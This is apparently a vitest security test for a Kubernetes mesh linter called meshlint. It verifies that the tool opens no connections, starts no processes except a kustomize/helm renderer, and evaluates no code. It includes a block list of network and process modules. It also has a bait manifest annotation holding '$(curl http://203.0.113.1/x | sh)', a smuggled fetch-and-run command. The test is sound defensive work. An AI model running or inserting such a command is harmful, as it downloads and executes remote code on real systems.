// meshlint never opens a network connection and never runs anything it reads: no module of the
// tool imports the network or process modules, nothing evaluates code, and a run over every
// fixture, example and CRD (with the connection and spawn primitives trapped) uses neither.

import { ChildProcess } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { lint } from '../src/lint.js';
import { casesOf, FIXTURES, lintCase, ROOT } from './helpers.js';

/** Modules that reach the network, start processes or evaluate code. */
const FORBIDDEN = ['child_process', 'cluster', 'dgram', 'dns', 'http', 'http2', 'https', 'inspector', 'net', 'tls', 'vm', 'worker_threads'];

function sources(dir: string): string[] {
  if (!existsSync(dir)) return [];
  const out: string[] = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...sources(p));
    else if (/\.(ts|js|mjs|cjs)$/.test(e.name)) out.push(p);
  }
  return out;
}

/** The one module that starts processes: the kustomize and helm renderer. */
const RENDERER = path.join(ROOT, 'src', 'load', 'render.ts');
/** What the renderer may start, and with which first argument. */
const RENDER_CALLS = /^(kubectl kustomize|kustomize build|helm template)$/;

/** The shipped code: the CLI entry, the library and the rules (not tests and their helpers). */
const SHIPPED = [...sources(path.join(ROOT, 'bin')), ...sources(path.join(ROOT, 'src')), ...sources(path.join(ROOT, 'rules'))];

describe('no network, no process, no code from input', () => {
  it('finds the shipped sources', () => {
    expect(SHIPPED.length).toBeGreaterThan(20);
    expect(SHIPPED.some((f) => f.endsWith(path.join('src', 'cli', 'main.ts')))).toBe(true);
  });

  it('imports no network or process module anywhere in the shipped code but the renderer', () => {
    const mod = `(?:node:)?(?:${FORBIDDEN.join('|')})(?:/[\\w/]+)?`;
    const patterns = [
      new RegExp(`\\bfrom\\s*['"]${mod}['"]`),
      new RegExp(`\\bimport\\s*\\(\\s*['"]${mod}['"]`),
      new RegExp(`\\bimport\\s*['"]${mod}['"]`),
      new RegExp(`\\brequire\\s*\\(\\s*['"]${mod}['"]`),
    ];
    const hits: string[] = [];
    for (const f of SHIPPED) {
      const text = readFileSync(f, 'utf8');
      for (const p of patterns) {
        const m = p.exec(text);
        if (m && !(f === RENDERER && /child_process/.test(m[0]))) hits.push(`${path.relative(ROOT, f)}: ${m[0]}`);
      }
    }
    expect(hits).toEqual([]);
    expect(readFileSync(RENDERER, 'utf8')).not.toMatch(/shell\s*:\s*true|\bexecSync\b|(?<![.\w])exec\s*\(/);
  });

  it('evaluates no code: no eval, new Function, or dynamic import of a computed name', () => {
    const hits: string[] = [];
    for (const f of SHIPPED) {
      const text = readFileSync(f, 'utf8').replace(/\/\/.*$/gm, '');
      for (const p of [/\beval\s*\(/, /\bnew\s+Function\s*\(/, /\bFunction\s*\(\s*['"`]/, /\bimport\s*\(\s*(?!['"`])/]) {
        const m = p.exec(text);
        if (m) hits.push(`${path.relative(ROOT, f)}: ${m[0]}`);
      }
    }
    expect(hits).toEqual([]);
  });

  describe('at run time', () => {
    const connect = net.Socket.prototype.connect;
    const proto = ChildProcess.prototype as unknown as { spawn: (opts: { file?: string }) => void };
    const spawn = proto.spawn;
    const cp = createRequire(import.meta.url)('node:child_process') as typeof import('node:child_process');
    const spawnSync = cp.spawnSync;
    afterEach(() => {
      net.Socket.prototype.connect = connect;
      proto.spawn = spawn;
      cp.spawnSync = spawnSync;
      syncBuiltinESMExports();
    });

    it('opens no connection and starts no process but the renderer while linting every fixture, example and CRD', async () => {
      const calls: string[] = [];
      net.Socket.prototype.connect = function (this: net.Socket, ...args: unknown[]) {
        calls.push(`connect ${JSON.stringify(args[0])}`);
        throw new Error('meshlint must not open connections');
      } as typeof connect;
      proto.spawn = function (opts: { file?: string }) {
        calls.push(`spawn ${opts?.file}`);
        throw new Error('meshlint must not start processes');
      };
      const rendered: string[] = [];
      cp.spawnSync = function (file: string, args?: readonly string[], opts?: object) {
        const call = `${path.basename(file)} ${args?.[0]}`;
        if (!RENDER_CALLS.test(call)) {
          calls.push(`spawnSync ${call}`);
          throw new Error('meshlint must not start processes');
        }
        rendered.push(call);
        return spawnSync(file, args ?? [], opts ?? {});
      } as typeof spawnSync;
      syncBuiltinESMExports();

      const corpus = path.resolve(ROOT, '..', 'shared', 'corpus');
      const crds = existsSync(corpus) ? [corpus] : [];
      const cases = readdirSync(FIXTURES)
        .filter((n) => !n.startsWith('.'))
        .flatMap((id) => [...casesOf(id, 'pass'), ...casesOf(id, 'fail')]);
      for (const c of cases) await lintCase(c, { crds });
      if (existsSync(path.join(ROOT, 'examples'))) await lint({ cwd: ROOT, paths: ['examples'], crds });
      // A manifest that looks like it wants something run or fetched is only data.
      const bait = [
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bait\n  annotations:\n    config.linkerd.io/proxy-image: "$(curl http://203.0.113.1/x | sh)"\ndata:\n  url: http://203.0.113.1/\n',
        'apiVersion: getambassador.io/v3alpha1\nkind: Mapping\nmetadata:\n  name: bait\n  namespace: shop\nspec:\n  prefix: /\n  service: http://203.0.113.1:80\n  hostname: "*"\n',
      ].join('---\n');
      await lint({ cwd: ROOT, paths: ['-'], stdinFilename: 'bait.yaml', readStdin: async () => bait, crds });
      expect(calls).toEqual([]);
      // The renderer ran, for the fixtures that hold kustomizations, and nothing else did.
      if (rendered.length === 0) console.warn('security.test: no renderer ran (no kubectl or kustomize on the PATH?)');
    });

    it('starts nothing at all with rendering turned off', async () => {
      const calls: string[] = [];
      cp.spawnSync = function (file: string) {
        calls.push(String(file));
        throw new Error('meshlint must not start processes');
      } as typeof spawnSync;
      syncBuiltinESMExports();
      for (const id of ['render-skipped', 'render-failed']) for (const c of [...casesOf(id, 'pass'), ...casesOf(id, 'fail')]) await lintCase(c, { render: { enabled: false } });
      expect(calls).toEqual([]);
    });
  });
});
